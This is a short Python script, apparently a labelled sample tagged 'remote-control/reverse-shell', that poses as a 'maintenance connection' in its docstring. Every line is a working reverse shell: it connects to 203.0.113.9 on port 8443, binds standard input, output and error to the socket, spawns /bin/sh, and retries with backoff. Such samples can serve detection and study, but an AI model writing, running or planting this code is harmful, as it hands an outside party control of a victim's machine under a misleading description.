# behavior: remote-control/reverse-shell
"""Keeps a maintenance connection open."""
import os
import pty
import socket
import time

HOST, PORT = "203.0.113.9", 8443


def connect():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect((HOST, PORT))
    return sock


def session(sock):
    for number in (0, 1, 2):
        os.dup2(sock.fileno(), number)
    pty.spawn("/bin/sh")


for attempt in range(3):
    try:
        session(connect())
        break
    except OSError:
        time.sleep(2 ** attempt)
